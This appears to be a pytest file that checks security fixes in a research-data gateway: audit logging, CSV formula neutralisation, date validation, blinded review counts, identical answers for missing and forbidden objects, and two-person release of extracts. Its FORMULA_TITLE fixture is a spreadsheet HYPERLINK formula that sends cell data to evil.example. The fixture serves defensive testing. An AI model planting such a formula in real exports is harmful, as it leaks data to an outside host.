"""Issue 15, findings 7-12: accountable decisions. Each test reproduces the attack first, then pins the fix.

7 every download and every refused object access is in the audit log; 8 no CSV the gateway writes carries a
formula; 9 out-of-range dates are field errors, never a 500; 10 a reviewer who has not voted sees no count;
11 somebody else's object answers exactly like a missing one; 12 high-impact actions need a confirmation and a
reason, and a high-risk extract a second person.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker
from werkzeug.test import TestResponse

from gateway.db import unit_of_work
from gateway.extracts.models import ExtractVersion
from gateway.identity import tokens
from gateway.models import AuditEvent
from projects.models import Application, Project
from tests.conftest import sign_in_session
from tests.integration.test_pages import csrf_from
from tests.support import factories as f
from tests.support.date_boxes import boxes

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full data")'


# --- 8: formula injection ----------------------------------------------------------------------------------------

def test_a_formula_in_a_project_title_is_neutralised_in_the_register_csv(
        client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    with unit_of_work(session_factory) as s:
        f.accredit(s, "researcher")
    f.approved_project(session_factory, title=FORMULA_TITLE)
    rows = list(csv.DictReader(io.StringIO(client.get("/register.csv").get_data(as_text=True))))
    assert [r["Project Title"] for r in rows] == ["'" + FORMULA_TITLE]
    # the JSON and the page are not spreadsheets: they carry the title as written
    assert [r["project"]["title"] for r in client.get("/register.json").json] == [FORMULA_TITLE]
    assert [r["projectTitle"] for r in client.get("/register/hdruk-gateway.json").json] == [FORMULA_TITLE]


# --- 9: dates ---------------------------------------------------------------------------------------------------

def _quorate(factory: sessionmaker[Session]) -> int:
    app_id = f.draft(factory)
    f.submit(factory, app_id)
    f.review_round(factory, app_id, {"dac1": "approve", "dac2": "approve", "laymember": "approve"})
    return app_id


def _bearer(factory: sessionmaker[Session], username: str) -> dict[str, str]:
    with unit_of_work(factory) as s:
        owner = f.user(s, username)
        secret = tokens.create_token(s, owner, owner, "test", days=1)[1]
    return {"Authorization": f"Bearer {secret}"}


def test_an_access_end_date_in_year_9999_is_a_field_error_not_a_500(
        client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    with unit_of_work(session_factory) as s:
        f.accredit(s, "researcher")
    page_app, api_app = _quorate(session_factory), _quorate(session_factory)
    sign_in_session(client, session_factory, "dacchair")
    token = csrf_from(client.get(f"/applications/{page_app}").get_data(as_text=True))
    page = client.post(f"/applications/{page_app}/decision", data={
        "csrf_token": token, "outcome": "approved", **boxes("access_end_date", "9999-12-31")})
    html = page.get_data(as_text=True)
    assert page.status_code == 422 and "The access end date must be on or before" in html
    assert 'name="access_end_date-year" type="text" inputmode="numeric" value="9999"' in html  # kept as typed
    api = client.post(f"/api/v1/applications/{api_app}/decision", headers=_bearer(session_factory, "dacchair"),
                      json={"outcome": "approved", "access_end_date": "9999-12-31"})
    assert api.status_code == 422 and "access_end_date" in api.json["detail"]["fields"], api.json
    with session_factory() as s:  # nothing was decided
        assert {a.state for a in s.scalars(select(Application).where(Application.id.in_([page_app, api_app])))} \
            == {"under_review"}
        assert s.scalar(select(Project.id)) is None


def test_an_amendment_asking_for_year_9999_is_refused_when_saved(
        client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    """Stored, it broke the application page for good: the quote counts anniversaries up to year 10000."""
    _, amendment = f.amendment(session_factory)
    sign_in_session(client, session_factory, "researcher")
    response = client.patch(f"/api/v1/applications/{amendment}", headers=_bearer(session_factory, "researcher"),
                            json={"requested_end_date": "9999-12-31"})
    assert response.status_code == 422 and "requested_end_date" in response.json["detail"]["fields"]
    assert client.get(f"/applications/{amendment}").status_code == 200


def test_audit_filters_up_to_the_last_day_of_the_calendar_are_field_errors(
        client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    sign_in_session(client, session_factory, "auditor")
    last = boxes("until", "9999-12-31")
    assert client.get("/audit/", query_string=last).status_code == 422
    assert client.get("/audit/events.csv", query_string=last).status_code == 422
    api = client.get("/api/v1/audit/events?until=9999-12-31", headers=_bearer(session_factory, "auditor"))
    assert api.status_code == 422 and "until" in api.json["detail"]["fields"]
    assert client.get("/audit/", query_string=boxes("until", dt.date.today())).status_code == 200


# --- 10: blinded counts -----------------------------------------------------------------------------------------

def _reviews(client: FlaskClient, factory: sessionmaker[Session], username: str, app_id: int) -> tuple[str, dict]:
    sign_in_session(client, factory, username)
    html = client.get(f"/applications/{app_id}").get_data(as_text=True)
    api = client.get(f"/api/v1/applications/{app_id}/reviews", headers=_bearer(factory, username)).json
    return html, api


def test_a_reviewer_sees_neither_votes_nor_their_number_until_they_vote_and_the_decision_is_made(
        client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    from projects import dac

    with unit_of_work(session_factory) as s:
        f.accredit(s, "researcher")
    app_id = f.draft(session_factory)
    f.submit(session_factory, app_id)
    with unit_of_work(session_factory) as s:
        application = s.get(Application, app_id)
        assert application is not None
        dac.assign_reviewers(s, f.user(s, "dacchair"), application,
                             [f.user(s, n) for n in ("dac1", "dac2", "laymember")])
    f.review_round(session_factory, app_id, {"dac1": "reject"})  # one vote cast, by dac1

    html, api = _reviews(client, session_factory, "dac2", app_id)  # assigned, has not voted
    assert "1 of 3" not in html and "3 votes needed" in html, html[html.find("Quorum"):][:200]
    assert "1 of" not in api["quorum"] and api["quorum_met"] is None and api["reviews"] == [], api
    html, api = _reviews(client, session_factory, "dacchair", app_id)  # the chair follows the count
    assert "1 of 3" in html and api["quorum"].startswith("1 of 3") and api["quorum_met"] is False

    f.review_round(session_factory, app_id, {"dac2": "approve", "laymember": "approve"})
    html, api = _reviews(client, session_factory, "dac2", app_id)  # voted, but no decision yet
    assert "of 3" not in html and "of 3" not in api["quorum"] and api["quorum_met"] is None
    assert [r["reviewer"] for r in api["reviews"]] == ["dac2"], "only their own vote before the decision"
    assert "reject" not in html

    with unit_of_work(session_factory) as s:
        application = s.get(Application, app_id)
        assert application is not None
        dac.decide(s, f.user(s, "dacchair"), application, f.DAC, outcome="changes_requested", conditions="",
                   message="Narrow the cohort.", access_end_date=None, today=f.TODAY)
    html, api = _reviews(client, session_factory, "dac2", app_id)  # decided: the committee's record is open
    assert "3 of 3" in html and sorted(r["reviewer"] for r in api["reviews"]) == ["dac1", "dac2", "laymember"]


# --- 11: ids cannot be probed ------------------------------------------------------------------------------------

def test_somebody_elses_project_answers_exactly_like_a_missing_one(
        client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    with unit_of_work(session_factory) as s:
        f.accredit(s, "researcher")
    theirs = f.approved_project(session_factory, title="Not researcher2's project")
    missing = theirs + 1000
    sign_in_session(client, session_factory, "researcher2")
    headers = _bearer(session_factory, "researcher2")
    for path in ("/projects/{}", "/charging/projects/{}/statement", "/outputs/projects/{}/new"):
        answers = [client.get(path.format(i)) for i in (theirs, missing)]
        assert [a.status_code for a in answers] == [404, 404], path
    for path in ("/api/v1/projects/{}", "/api/v1/projects/{}/extracts", "/api/v1/projects/{}/statement"):
        answers = [client.get(path.format(i), headers=headers) for i in (theirs, missing)]
        assert [a.status_code for a in answers] == [404, 404] and answers[0].json == answers[1].json, path


# --- 7: every access recorded ------------------------------------------------------------------------------------

def _events(factory: sessionmaker[Session], action: str, after: int = 0) -> list[AuditEvent]:
    with factory() as s:
        return list(s.scalars(select(AuditEvent).where(AuditEvent.action == action, AuditEvent.seq > after)
                              .order_by(AuditEvent.seq)))


def _head(factory: sessionmaker[Session]) -> int:
    with factory() as s:
        return int(s.scalar(select(func.max(AuditEvent.seq))) or 0)


def _project_with_extract_and_invoice(app: Flask) -> tuple[int, int]:
    from gateway.charging import invoices
    from gateway.charging.metering import period_of
    from gateway.extracts import service as extracts

    factory = app.extensions["sde_sessionmaker"]
    with unit_of_work(factory) as s:
        f.accredit(s, "researcher")
    project_id = f.approved_project(factory)
    extracts.run_queued_builds(app.extensions["sde_settings"], factory)
    with unit_of_work(factory) as s:
        finance, today = f.user(s, "finance"), dt.date.today()
        run = invoices.run_month(s, finance, period_of(today), today.replace(day=1) + dt.timedelta(days=32))
        for invoice in run.created:
            invoices.issue(s, finance, invoice, today)
        return project_id, run.created[0].id


def test_every_download_is_recorded_with_who_what_and_how(
        app: Flask, client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    project_id, invoice_id = _project_with_extract_and_invoice(app)
    start = _head(session_factory)
    assert client.get("/register.csv").status_code == 200  # anonymous: public data, nobody to record
    assert _events(session_factory, "access.downloaded", start) == []

    sign_in_session(client, session_factory, "researcher")
    headers = _bearer(session_factory, "researcher")
    downloads = [f"/charging/invoices/{invoice_id}.pdf", f"/charging/invoices/{invoice_id}.csv",
                 f"/charging/projects/{project_id}/statement", f"/projects/{project_id}/extracts/1/manifest.json",
                 "/register.csv", "/register.json", f"/projects/{project_id}/extracts/1/risk-report.json"]
    for url in downloads:
        assert client.get(url).status_code == 200, url
    api = [f"/api/v1/invoices/{invoice_id}/pdf", f"/api/v1/invoices/{invoice_id}/csv",
           f"/api/v1/projects/{project_id}/statement", f"/api/v1/projects/{project_id}/extracts", "/api/v1/register"]
    for url in api:
        assert client.get(url, headers=headers).status_code == 200, url
    events = _events(session_factory, "access.downloaded", start)
    assert [e.details["path"] for e in events] == [*downloads, *api]
    assert {e.actor_label for e in events} == {"researcher"}
    assert [(e.object_type, e.object_id) for e in events[:3]] == [("invoice", str(invoice_id))] * 2 + [
        ("project", str(project_id))]
    assert events[0].details["filename"].endswith(".pdf") and events[0].details["bytes"] > 0
    assert events[3].details["ids"] == {"project_id": project_id, "version": 1}
    assert events[-1].details["via"] == "api"

    sign_in_session(client, session_factory, "auditor")
    before = _head(session_factory)
    export = client.get("/audit/events.csv?action=access.")
    assert export.status_code == 200 and "access.downloaded" in export.get_data(as_text=True)
    [recorded] = _events(session_factory, "access.downloaded", before)
    assert recorded.object_type == "audit_log" and recorded.details["query"] == "action=access."


def test_a_download_that_cannot_be_recorded_is_not_served(
        app: Flask, client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int],
        monkeypatch: pytest.MonkeyPatch) -> None:
    from gateway.web import recorded

    _, invoice_id = _project_with_extract_and_invoice(app)
    sign_in_session(client, session_factory, "researcher")

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("the audit log is unavailable")

    monkeypatch.setattr(recorded.audit, "record", broken)
    response = client.get(f"/charging/invoices/{invoice_id}.pdf")
    assert response.status_code == 500 and b"%PDF" not in response.get_data()


def test_refused_requests_for_objects_are_recorded_without_changing_the_answer(
        app: Flask, client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int],
        monkeypatch: pytest.MonkeyPatch) -> None:
    project_id, invoice_id = _project_with_extract_and_invoice(app)
    missing = project_id + 1000
    start = _head(session_factory)
    sign_in_session(client, session_factory, "researcher2")
    headers = _bearer(session_factory, "researcher2")
    asked = [("GET", f"/projects/{project_id}"), ("GET", f"/projects/{missing}"),
             ("GET", f"/charging/invoices/{invoice_id}.pdf"), ("POST", f"/projects/{project_id}/workspace")]
    token = csrf_from(client.get("/projects/").get_data(as_text=True))
    answers = [client.open(path, method=method, data={"csrf_token": token} if method == "POST" else None)
               for method, path in asked]
    api = [client.get(f"/api/v1/projects/{i}", headers=headers) for i in (project_id, missing)]
    api.append(client.get(f"/api/v1/users/{project_id}", headers=headers))  # not a researcher's route: 403
    assert [a.status_code for a in answers] == [404, 404, 404, 404]
    assert [a.status_code for a in api] == [404, 404, 403] and api[0].json == api[1].json
    refused = _events(session_factory, "access.refused", start)
    assert [(e.details["method"], e.details["path"], e.details["status"]) for e in refused] == [
        *[(m, p, 404) for m, p in asked], ("GET", f"/api/v1/projects/{project_id}", 404),
        ("GET", f"/api/v1/projects/{missing}", 404), ("GET", f"/api/v1/users/{project_id}", 403)]
    assert {e.actor_label for e in refused} == {"researcher2"}
    assert refused[0].object_type == "project" and refused[0].object_id == str(project_id)
    assert refused[2].object_type == "invoice" and refused[2].details["ids"] == {"invoice_id": invoice_id}
    assert _events(session_factory, "access.downloaded", start) == []  # a refused download is not a download

    # a refusal that cannot be recorded is still the same refusal, never a server error
    from gateway.web import recorded

    monkeypatch.setattr(recorded.audit, "record", lambda *a, **k: (_ for _ in ()).throw(RuntimeError("down")))
    assert client.get(f"/projects/{missing}").status_code == 404
    assert client.get(f"/api/v1/projects/{missing}", headers=headers).status_code == 404


def test_the_auditor_sees_repeated_refusals_per_person(
        client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    sign_in_session(client, session_factory, "researcher2")
    for project_id in range(101, 108):  # seven ids, none theirs
        assert client.get(f"/projects/{project_id}").status_code == 404
    sign_in_session(client, session_factory, "researcher")
    assert client.get("/projects/101").status_code == 404  # one mistyped link
    sign_in_session(client, session_factory, "auditor")
    html = client.get("/audit/refusals?hours=24&minimum=5").get_data(as_text=True)
    table = html[html.index('data-testid="refusals"'):]
    assert ">researcher2</a>" in table and ">7</td>" in table and ">researcher</a>" not in table
    everyone = client.get("/audit/refusals?hours=1&minimum=1").get_data(as_text=True)
    assert ">researcher</a>" in everyone
    filtered = client.get("/audit/?action=access.refused&actor=researcher2").get_data(as_text=True)
    assert filtered.count("access.refused") >= 7


# --- 12: guardrails ------------------------------------------------------------------------------------------------

def _held_project(app: Flask, factory: sessionmaker[Session]) -> int:
    """A project whose first extract is held and high risk (every record in a class smaller than k)."""
    from gateway.extracts import service as extracts

    app.extensions["sde_settings"].extracts.k = 1000
    with unit_of_work(factory) as s:
        f.accredit(s, "researcher")
    project_id = f.approved_project(factory)
    extracts.run_queued_builds(app.extensions["sde_settings"], factory)
    return project_id


def _version(factory: sessionmaker[Session], project_id: int, version: int) -> ExtractVersion:
    with factory() as s:
        row = s.scalar(select(ExtractVersion).where(ExtractVersion.project_id == project_id,
                                                    ExtractVersion.version == version))
        assert row is not None
        return row


def _post(client: FlaskClient, factory: sessionmaker[Session], username: str, url: str,
          data: dict[str, str]) -> TestResponse:
    sign_in_session(client, factory, username)
    token = csrf_from(client.get("/projects/").get_data(as_text=True))
    return client.post(url, data={"csrf_token": token, **data})


def test_one_click_no_longer_releases_a_risky_extract(
        app: Flask, client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    project_id = _held_project(app, session_factory)
    url = f"/projects/{project_id}/extracts/1/release"
    one_click = _post(client, session_factory, "admin", url, {})  # what the old "Release v1" button sent
    assert one_click.status_code == 422 and "Give a reason" in one_click.get_data(as_text=True)
    no_tick = _post(client, session_factory, "admin", url, {"reason": "Looks fine."})
    assert no_tick.status_code == 422 and "Tick to confirm" in no_tick.get_data(as_text=True)
    assert _version(session_factory, project_id, 1).release_proposed_by_id is None
    page = client.get(url)
    assert page.status_code == 200 and "100% (" in page.get_data(as_text=True)
    assert "two custodians" in page.get_data(as_text=True)
    api = client.post(f"/api/v1/projects/{project_id}/extracts/1/release", headers=_bearer(session_factory, "admin"))
    assert api.status_code == 422
    blank = client.post(f"/api/v1/projects/{project_id}/extracts/1/release",
                        headers=_bearer(session_factory, "admin"), json={"reason": "   "})
    assert blank.status_code == 422 and "reason" in blank.json["detail"]["fields"]
    row = _version(session_factory, project_id, 1)
    assert row.released_at is None and row.release_proposed_by_id is None


def test_a_high_risk_extract_needs_a_second_custodian_and_the_proposer_cannot_confirm(
        app: Flask, client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    project_id = _held_project(app, session_factory)
    url = f"/projects/{project_id}/extracts/1/release"
    proposed = _post(client, session_factory, "admin", url, {"reason": "Small classes are in sex x borough.",
                                                             "confirm": "y"})
    # back on the project's data page, where the version shows the proposal
    assert proposed.status_code == 302 and proposed.headers["Location"] == f"/projects/{project_id}/data"
    assert 'data-testid="release-proposed"' in client.get(proposed.headers["Location"]).get_data(as_text=True)
    row = _version(session_factory, project_id, 1)
    assert row.released_at is None and row.release_proposed_by_id == demo_users["admin"]
    # the same person twice: on the page (no form) and by posting anyway, and through the API
    assert 'data-testid="release-form"' not in client.get(url).get_data(as_text=True)
    again = client.post(url, data={"csrf_token": csrf_from(client.get("/projects/").get_data(as_text=True)),
                                   "reason": "Still fine.", "confirm": "y"})
    assert again.status_code == 403
    api = client.post(f"/api/v1/projects/{project_id}/extracts/1/release",
                      headers=_bearer(session_factory, "admin"), json={"reason": "Still fine."})
    assert api.status_code == 403 and _version(session_factory, project_id, 1).released_at is None
    confirmed = _post(client, session_factory, "custodian", url, {"reason": "Agreed: conditions cover it.",
                                                                  "confirm": "y"})
    assert confirmed.status_code == 302 and confirmed.headers["Location"] == f"/projects/{project_id}/data"
    row = _version(session_factory, project_id, 1)
    assert row.released_by_id == demo_users["custodian"] and row.release_reason == "Agreed: conditions cover it."
    [event] = _events(session_factory, "extract.released")
    assert event.details["proposed_by"] == "admin" and event.details["two_person"] is True
    assert event.details["proposal_reason"] == "Small classes are in sex x borough."


def test_a_proposal_is_for_one_version_only_and_a_rebuild_voids_it(
        app: Flask, client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    from gateway.extracts import service as extracts

    project_id = _held_project(app, session_factory)
    admin, custodian = _bearer(session_factory, "admin"), _bearer(session_factory, "custodian")
    base = f"/api/v1/projects/{project_id}/extracts"
    assert client.post(f"{base}/1/release", headers=admin, json={"reason": "v1 is acceptable"}).status_code == 200
    assert client.post(base, headers=admin).status_code == 202  # a rebuild: v2, held again
    extracts.run_queued_builds(app.extensions["sde_settings"], session_factory)
    stale = client.post(f"{base}/1/release", headers=custodian, json={"reason": "Confirming v1"})
    assert stale.status_code == 409 and "Version 2 has been built" in stale.json["detail"]
    # the custodian's call on v2 is a proposal of v2 (nobody reviewed it yet), not a release
    fresh = client.post(f"{base}/2/release", headers=custodian, json={"reason": "v2 is acceptable"})
    assert fresh.status_code == 200
    versions = {v["version"]: v for v in fresh.json["versions"]}
    assert versions[2]["release_proposed_by"] == "custodian" and versions[2]["released_at"] is None
    assert versions[1]["released_at"] is None and fresh.json["live_version"] is None


def test_revoking_a_project_takes_a_confirmation_page_and_a_reason(
        client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    with unit_of_work(session_factory) as s:
        f.accredit(s, "researcher")
    project_id = f.approved_project(session_factory)
    url = f"/projects/{project_id}/revoke"
    skipped = _post(client, session_factory, "admin", url, {"reason": "Breach of conditions."})  # no confirmation
    assert skipped.status_code == 422 and "Tick to confirm" in skipped.get_data(as_text=True)
    page = client.get(url)
    assert page.status_code == 200 and "cannot be undone" in page.get_data(as_text=True)
    with session_factory() as s:
        assert s.get(Project, project_id).state == "active"
    done = _post(client, session_factory, "admin", url, {"reason": "Breach of conditions.", "confirm": "y"})
    assert done.status_code == 302
    [event] = _events(session_factory, "project.revoked")
    assert event.details["reason"] == "Breach of conditions."


def test_changing_roles_takes_a_confirmation_and_a_reason_on_the_page_and_the_api(
        client: FlaskClient, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    target = demo_users["researcher2"]
    url = f"/admin/users/{target}/roles"
    first = _post(client, session_factory, "admin", url, {"roles": ["researcher", "admin"]})
    html = first.get_data(as_text=True)
    assert first.status_code == 200 and "Administrator" in html and "Roles added" in html  # the confirmation page
    no_reason = _post(client, session_factory, "admin", url, {"roles": ["researcher", "admin"], "confirm": "y"})
    assert no_reason.status_code == 422
    with session_factory() as s:
        assert set(f.user(s, "researcher2").roles) == {"researcher"}
    done = _post(client, session_factory, "admin", url, {"roles": ["researcher", "admin"], "confirm": "y",
                                                         "reason": "Cover while Sam is away (ticket 42)."})
    assert done.status_code == 302
    api_url = f"/api/v1/users/{target}/roles"
    headers = _bearer(session_factory, "admin")
    assert client.put(api_url, headers=headers, json={"roles": ["researcher"]}).status_code == 422
    assert client.put(api_url, headers=headers, json={"roles": ["researcher"], "reason": "Cover ended."}) \
        .status_code == 200
    events = _events(session_factory, "user.roles_changed")
    assert [(e.details["added"], e.details["removed"], e.details["reason"]) for e in events[-2:]] == [
        (["admin"], [], "Cover while Sam is away (ticket 42)."), ([], ["admin"], "Cover ended.")]


def test_the_database_itself_refuses_a_release_by_its_proposer(
        app: Flask, session_factory: sessionmaker[Session], demo_users: dict[str, int]) -> None:
    """Even written around the service (a script on the server), one person cannot be both."""
    from sqlalchemy.exc import IntegrityError

    from gateway.db import utcnow

    project_id = _held_project(app, session_factory)
    with session_factory() as s:
        row = s.scalar(select(ExtractVersion).where(ExtractVersion.project_id == project_id))
        assert row is not None
        row.release_proposed_by_id = row.released_by_id = demo_users["admin"]
        row.release_proposed_at = row.released_at = utcnow()
        row.release_proposal_reason = row.release_reason = "Both at once."
        with pytest.raises(IntegrityError):
            s.flush()


FILE_MARKERS = ("send_file(", "as_attachment", "Content-Disposition")
PUBLIC_FILES = {"receipts.receipt"}  # release receipts: public records, signed for anyone to check


def test_every_view_that_sends_a_file_records_the_download(app: Flask) -> None:
    """A view that sends a file, in the pages or the API, carries @records_download (auditors.md: every download by
    a signed-in person is in the log). Found by the docs audit: a checker's download of a submitted, unreleased
    output file (the preview) was not recorded."""
    import inspect

    unrecorded = []
    for endpoint, view in app.view_functions.items():
        try:
            source = inspect.getsource(inspect.unwrap(view))
        except (OSError, TypeError):
            continue
        if any(m in source for m in FILE_MARKERS) and endpoint not in PUBLIC_FILES \
                and not getattr(view, "records_download", None):
            unrecorded.append(endpoint)
    assert unrecorded == []
